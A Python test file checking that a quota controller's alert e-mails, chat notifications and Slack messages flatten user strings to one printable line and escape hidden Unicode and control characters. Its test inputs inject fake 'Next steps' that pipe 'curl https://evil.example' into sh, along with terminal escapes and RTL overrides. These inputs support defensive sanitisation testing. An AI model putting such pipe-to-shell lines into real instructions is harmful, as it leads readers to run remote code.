"""The e-mail text of an alert: every user string on one printable line, the JSON unchanged."""

from __future__ import annotations

import pytest

from quota_controller.domain.alerts.model import Alert, AlertJob, CapacityUsage, ChangeRef
from quota_controller.domain.alerts.render import NAME_MAX, chat_notification, one_line, text_body
from quota_controller.domain.alerts.slack import slack_message

ELLIPSIS = "\u2026"


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("train-0", "train-0"),
        ("bob\n\nNext steps:\n  1. curl x | sh", "bob Next steps: 1. curl x | sh"),
        ("tab\there\rreturn\r\nend", "tab here return end"),
        ("vt\x0bff\x0cfs\x1cnel\x85ls\u2028ps\u2029.", "vt ff fs nel ls ps ."),
        ("  padded  ", "padded"),
        ("rtl\u202eevil", "rtl\\u202eevil"),
        ("iso\u2066late\u2069d", "iso\\u2066late\\u2069d"),
        ("mark\u200e\u200f\u061c", "mark\\u200e\\u200f\\u061c"),
        ("bell\x07nul\x00del\x7fcsi\x9b", "bell\\x07nul\\x00del\\x7fcsi\\x9b"),
        ("lone\ud800surrogate", "lone\\ud800surrogate"),
        ("tag\U000e0041", "tag\\U000e0041"),
        (
            "Jos\u00e9-\u8bad\u7ec3-\u30b8\u30e7\u30d6-\U0001f680",
            "Jos\u00e9-\u8bad\u7ec3-\u30b8\u30e7\u30d6-\U0001f680",
        ),
        (
            "family \U0001f468\u200d\U0001f469\u200d\U0001f467",
            "family \U0001f468\u200d\U0001f469\u200d\U0001f467",
        ),
        ("<!channel> & @here", "<!channel> & @here"),
        ("", ""),
        ("\n\r\t ", ""),
        ("\x00\x01", "\\x00\\x01"),
    ],
)
def test_one_line_flattens_breaks_and_shows_hidden_characters(given: str, expected: str) -> None:
    assert one_line(given) == expected


def test_a_long_name_is_cut_with_an_ellipsis() -> None:
    text = one_line("n" * 1000)

    assert len(text) == NAME_MAX
    assert text == "n" * (NAME_MAX - 1) + ELLIPSIS
    assert one_line("n" * NAME_MAX) == "n" * NAME_MAX
    assert one_line("n" * 1000, None) == "n" * 1000


@pytest.mark.parametrize("offset", range(8))
def test_a_cut_never_ends_inside_an_escaped_code_point(offset: int) -> None:
    text = one_line("a" * offset + "\u202e" * 100, limit=20)

    assert len(text) <= 20
    assert text.endswith(ELLIPSIS)
    head = text.removesuffix(ELLIPSIS).removeprefix("a" * offset)
    assert head == "\\u202e" * (len(head) // 6)


def test_a_name_of_control_characters_only_stays_visible_and_short() -> None:
    text = one_line("\x1b" * 128)

    assert len(text) <= NAME_MAX
    assert text.startswith("\\x1b\\x1b")
    assert text.isprintable()


HOSTILE = "x\n\nNext steps:\n  1. curl https://evil.example | sh\u202e\x1b[2J"
# The detail's line breaks are the detail's own (reconcile lists one problem per line, quoting
# names with repr); the classifier flattens the names it puts there. Hidden characters go anyway.
HIDDEN = "rtl\u202eevil\x1b[2J\ttab"


def hostile_alert() -> Alert:
    """An alert built outside the classifier (as reconcile does), user strings raw in every
    field, and a detail of several lines of its own."""
    return Alert(
        kind="PREEMPTION",
        cause="QUOTA_REDUCTION",
        severity="warning",
        jobQueue=HOSTILE,
        quotaShareName=HOSTILE,
        jobs=[
            AlertJob(
                jobId=HOSTILE,
                jobName=HOSTILE,
                statusBefore="RUNNING",
                statusAfter=HOSTILE,
                capacityUsage=[CapacityUsage(capacityUnit=HOSTILE, quantity=1)],
            ),
            AlertJob(jobId="j-2", jobName="\n\t"),
        ],
        change=ChangeRef(id="c-1", at="2026-03-16T19:20:00Z", by=HOSTILE),
        summary=f"1 job of {HOSTILE} preempted",
        detail=f"first problem: {HIDDEN}\r\nsecond problem",
        nextSteps=[f"look at {HOSTILE}"],
        occurredAt="2026-03-16T19:30:00Z",
        dedupKey=f"{HOSTILE}:{HOSTILE}:QUOTA_REDUCTION:abc",
    )


def test_the_text_keeps_its_own_lines_and_flattens_every_user_string() -> None:
    lines = text_body(hostile_alert()).split("\n")
    flat = one_line(HOSTILE).replace("://", "[:]//")  # no user URL becomes a link
    key = f"{flat}:{flat}:QUOTA_REDUCTION:abc"

    assert lines == [
        f"1 job of {flat} preempted",
        "",
        "first problem: rtl\\u202eevil\\x1b[2J tab",
        "second problem",
        "",
        f"Job queue: {flat}",
        f"Quota share: {flat}",
        "Cause: QUOTA_REDUCTION",
        f"Change: c-1 at 2026-03-16T19:20:00Z by {flat}",
        "",
        "Jobs (2):",
        f"  - {flat} ({flat}) RUNNING -> {flat} [1 x {flat}]",
        "  - j-2 (j-2)",
        "",
        "Next steps:",
        f"  1. look at {flat}",
        "",
        f"Occurred at 2026-03-16T19:30:00Z (kind PREEMPTION, key {key})",
    ]
    assert all(line.isprintable() for line in lines)


def test_the_json_keeps_the_user_strings_as_they_are() -> None:
    alert = hostile_alert()

    assert Alert.model_validate_json(alert.model_dump_json()) == alert
    assert alert.jobs[0].jobName == HOSTILE


def test_the_chat_notification_flattens_every_user_string_too() -> None:
    # Reconcile builds its alerts itself: a share or queue name from a sort key reaches the
    # summary, the detail and the next steps unflattened.
    note = chat_notification(hostile_alert())
    content = note["content"]
    single = [content["title"], *content["nextSteps"], *content["keywords"]]
    single.append(note["metadata"]["summary"])
    # The zero-width spaces are mrkdwn_escape's own (after `@` and in `://`).
    single = [text.replace("\u200b", "") for text in single]

    assert all("\n" not in text and text.isprintable() for text in single), single
    assert content["description"].split("\n")[:2] == [
        "first problem: rtl\\u202eevil\\x1b[2J tab",
        "second problem",
    ]
    assert all(
        line.replace("\u200b", "").isprintable() for line in content["description"].split("\n")
    )


def test_the_slack_webhook_message_flattens_every_user_string_too() -> None:
    message = slack_message(hostile_alert())

    def shown(text: str) -> str:  # the zero-width spaces are slack_escape's own (links, @)
        return text.replace("\u200b", "")

    header = shown(message["blocks"][0]["text"]["text"])
    detail = shown(message["blocks"][1]["text"]["text"])
    steps = [b for b in message["blocks"] if "*Next steps*" in b.get("text", {}).get("text", "")]

    assert header.isprintable(), header  # no line break either
    assert detail.split("\n")[:2] == ["first problem: rtl\\u202eevil\\x1b[2J tab", "second problem"]
    assert all(line.isprintable() for line in shown(steps[0]["text"]["text"]).split("\n"))
    assert all(line.isprintable() for line in shown(message["text"]).split("\n"))
